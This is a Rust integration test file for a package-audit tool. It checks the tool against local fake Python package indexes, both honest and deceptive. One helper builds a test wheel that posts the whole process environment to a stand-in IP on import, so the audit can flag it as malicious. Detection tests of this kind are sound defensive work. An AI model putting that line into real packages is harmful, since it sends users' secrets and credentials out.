//! `pypi:name==version` against indexes on this machine: honest ones, and those that lie.

use super::{Project, rules};
use std::{
    collections::BTreeMap,
    io::{BufRead as _, BufReader, Write as _},
    net::{TcpListener, TcpStream},
    sync::{Arc, Mutex},
};
use wellhead_core::Digest;

/// What a path answers: the status, more headers, the body.
#[derive(Clone, Default)]
struct Answer {
    status: u16,
    headers: String,
    body: Vec<u8>,
    /// The body never ends.
    endless: bool,
}

type Answers = BTreeMap<String, Answer>;

fn ok(body: impl Into<Vec<u8>>) -> Answer {
    Answer {
        status: 200,
        body: body.into(),
        ..Answer::default()
    }
}

/// An index that ends with the test program, and the requests it got.
fn serve(answers: Answers) -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let asked = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&asked);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let _ = answer(stream, &answers, &log);
        }
    });
    (url, asked)
}

fn answer(mut stream: TcpStream, answers: &Answers, log: &Mutex<Vec<String>>) -> std::io::Result<()> {
    let mut head = String::new();
    let mut reader = BufReader::new(stream.try_clone()?);
    while !head.ends_with("\r\n\r\n") {
        if reader.read_line(&mut head)? == 0 {
            return Ok(());
        }
    }
    let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
    log.lock().unwrap().push(head);
    let missing = Answer {
        status: 404,
        ..Answer::default()
    };
    let found = answers.get(&path).unwrap_or(&missing);
    write!(
        stream,
        "HTTP/1.1 {} x\r\n{}Connection: close\r\n",
        found.status, found.headers
    )?;
    if found.endless {
        stream.write_all(b"\r\n")?;
        let chunk = vec![b'<'; 1 << 16];
        loop {
            stream.write_all(&chunk)?;
        }
    }
    write!(stream, "Content-Length: {}\r\n\r\n", found.body.len())?;
    stream.write_all(&found.body)
}

const META: &str = "member acme-1.0.dist-info/METADATA\n  Metadata-Version: 2.1\n  Name: acme\n  Version: 1.0\nmember acme-1.0.dist-info/WHEEL\n  Wheel-Version: 1.0\n  Tag: py3-none-any\n";
const WHEEL: &str = "acme-1.0-py3-none-any.whl";

/// A wheel whose module has these lines.
fn wheel(lines: &[&str]) -> Vec<u8> {
    let mut listing = "member acme/__init__.py\n".to_owned();
    for line in lines {
        listing.push_str(&format!("  {line}\n"));
    }
    wellhead_formats::assemble::assemble("zip", &format!("{listing}{META}")).unwrap()
}

/// A wheel that sends the environment away when it is imported.
fn poisoned() -> Vec<u8> {
    wheel(&[
        "import os, requests",
        "requests.post('http://203.0.113.5/c', json=dict(os.environ))",
    ])
}

/// A link of a page of the simple kind.
fn link(file: &str, bytes: &[u8]) -> String {
    let digest = Digest::sha256(bytes).hex;
    format!("<a href=\"../../files/{file}#sha256={digest}\">{file}</a>\n")
}

fn index(page: &str, files: &[(&str, Vec<u8>)]) -> Answers {
    let files = files
        .iter()
        .map(|(name, bytes)| (format!("/files/{name}"), ok(bytes.clone())));
    std::iter::once(("/simple/acme/".to_owned(), ok(page)))
        .chain(files)
        .collect()
}

fn audited(url: &str, target: &str, more: &[&str]) -> (serde_json::Value, super::Ran) {
    let project = Project::new(&[]);
    let mut args = vec![
        "audit",
        target,
        "--format",
        "json",
        "--isolated",
        "--ignore",
        "false-record",
    ];
    args.extend(more);
    let output = project
        .command(&args)
        .env("PIP_INDEX_URL", format!("{url}/simple"))
        .output()
        .unwrap();
    let ran = super::ran(output, project.path());
    let report = serde_json::from_str(&ran.out).unwrap_or(serde_json::Value::Null);
    (report, ran)
}

#[test]
fn a_release_is_judged_before_it_is_installed() {
    let bytes = poisoned();
    let (url, asked) = serve(index(&link(WHEEL, &bytes), &[(WHEEL, bytes)]));
    let (report, ran) = audited(&url, "pypi:Acme==1.0", &[]);
    assert_eq!(ran.code, 1, "{}{}", ran.out, ran.err);
    assert_eq!(report["targets"][0], "pypi:acme==1.0");
    assert_eq!(rules(&report), ["malicious-package-code"]);
    let place = report["findings"][0]["locations"][0]["artifact"]
        .as_str()
        .unwrap();
    assert_eq!(place, "acme-1.0-py3-none-any.whl!/acme/__init__.py");
    assert!(ran.err.contains("acme-1.0-py3-none-any.whl"), "{}", ran.err);
    // The page once and the file once.
    assert_eq!(asked.lock().unwrap().len(), 2);
}

#[test]
fn the_newest_release_is_meant_in_either_form_of_the_page() {
    let (old, new) = (wheel(&["x = 1"]), wheel(&["x = 2"]));
    let names = ["acme-0.9-py3-none-any.whl", WHEEL, "acme-2.0-py3-none-any.whl"];
    let rows = [
        (names[0], &old, "false"),
        (names[1], &new, "false"),
        (names[2], &old, "\"broken\""),
    ];
    let json: Vec<String> = rows
        .iter()
        .map(|(name, bytes, yanked)| {
            let digest = Digest::sha256(bytes).hex;
            format!(
                "{{\"filename\":\"{name}\",\"url\":\"/files/{name}\",\"size\":{},\"yanked\":{yanked},\"hashes\":{{\"sha256\":\"{digest}\"}}}}",
                bytes.len()
            )
        })
        .collect();
    let json = format!(
        "{{\"meta\":{{\"api-version\":\"1.1\"}},\"files\":[{}]}}",
        json.join(",")
    );
    let page = format!(
        "{}{}{}",
        link(names[0], &old),
        link(names[1], &new),
        link(names[2], &old).replace("<a ", "<a data-yanked=\"broken\" ")
    );
    for page in [json, page] {
        let files = [(names[0], old.clone()), (names[1], new.clone())];
        let (url, _) = serve(index(&page, &files));
        let (report, ran) = audited(&url, "pypi:acme", &[]);
        assert_eq!(report["targets"][0], "pypi:acme==1.0", "{}{}", ran.out, ran.err);
        assert_eq!(ran.code, 0, "{}{}", ran.out, ran.err);
        assert_eq!(report["stats"]["files"], 1);
    }
}

#[test]
fn an_index_that_lies_is_never_clean() {
    let (good, evil) = (wheel(&["x = 1"]), wheel(&["x = 2"]));
    let at_file = |answer: Answer| {
        let mut all = index(&link(WHEEL, &good), &[]);
        all.insert(format!("/files/{WHEEL}"), answer);
        all
    };
    let page = |answer: Answer| Answers::from([("/simple/acme/".to_owned(), answer)]);
    let endless = Answer {
        endless: true,
        ..ok("")
    };
    let moved = |to: &str| Answer {
        status: 302,
        headers: format!("Location: {to}\r\n"),
        ..Answer::default()
    };
    let (elsewhere, _) = serve(index(&link(WHEEL, &good), &[(WHEEL, good.clone())]));
    let bare = format!("<a href=\"/files/{WHEEL}\">x</a>");
    let mut undigested = index(&bare, &[]);
    undigested.insert(
        format!("/files/{WHEEL}"),
        moved(&format!("{elsewhere}/files/{WHEEL}")),
    );
    for (answers, code, expected) in [
        // Another file than the one that is listed.
        (at_file(ok(evil)), 1, "digest-mismatch"),
        (at_file(endless.clone()), 3, "is larger than 67108864 bytes"),
        (
            at_file(Answer {
                status: 403,
                ..Answer::default()
            }),
            3,
            "it refuses",
        ),
        (
            index(&bare, &[(WHEEL, good.clone())]),
            3,
            "the index states no digest of it",
        ),
        (undigested, 3, "is sent by another server"),
        (page(endless), 2, "is larger than 25165824 bytes"),
        (
            page(moved(&format!("{elsewhere}/simple/acme/"))),
            2,
            "is moved to another server",
        ),
        (page(moved("/simple/acme/")), 2, "redirects without end"),
        (page(ok("{\"files\": 1}")), 2, "is not the answer of an index"),
        (page(ok("<html>nothing</html>")), 2, "offers no files of `acme`"),
        (Answers::new(), 2, "offers no files of `acme`"),
        (
            index(&link("acme-9.0.zip", b""), &[]),
            2,
            "the newest there are: `9.0`",
        ),
    ] {
        let (url, _) = serve(answers);
        let (_, ran) = audited(&url, "pypi:acme==1.0", &["--strict"]);
        assert_eq!(ran.code, code, "{expected}: {}{}", ran.out, ran.err);
        assert!(
            ran.err.contains(expected) || ran.out.contains(expected),
            "{expected}: {}{}",
            ran.out,
            ran.err
        );
    }
}

#[test]
fn a_password_goes_to_its_index_alone_and_is_never_shown() {
    let bytes = wheel(&["x = 1"]);
    let (files, elsewhere) = serve(Answers::from([(format!("/files/{WHEEL}"), ok(bytes.clone()))]));
    let page = link(WHEEL, &bytes).replace("../..", &files);
    let (url, asked) = serve(index(&page, &[]));
    let with = url.replace("http://", "http://user:verysecret@");
    let (report, ran) = audited(&with, "pypi:acme", &["-v"]);
    assert_eq!(ran.code, 0, "{}{}", ran.out, ran.err);
    assert_eq!(report["stats"]["files"], 1);
    let sent = |log: &Mutex<Vec<String>>| log.lock().unwrap().join("").to_lowercase();
    assert!(sent(&asked).contains("authorization: basic dxnlcjp2zxj5c2vjcmv0"));
    assert!(!sent(&elsewhere).contains("authorization"));
    assert!(!ran.out.contains("verysecret") && !ran.err.contains("verysecret"));
}

#[test]
fn nothing_is_asked_offline_or_where_pip_asks_nothing() {
    let project = Project::new(&[]);
    let ran = project.run(&["audit", "pypi:acme", "--offline"]);
    assert_eq!(ran.code, 2);
    assert!(ran.err.contains("the network is not to be used"), "{}", ran.err);
    let output = project
        .command(&["audit", "pypi:acme"])
        .env("PIP_NO_INDEX", "1")
        .output()
        .unwrap();
    let ran = super::ran(output, project.path());
    assert_eq!(ran.code, 2);
    assert!(
        ran.err.contains("pip is configured to ask no index"),
        "{}",
        ran.err
    );
}
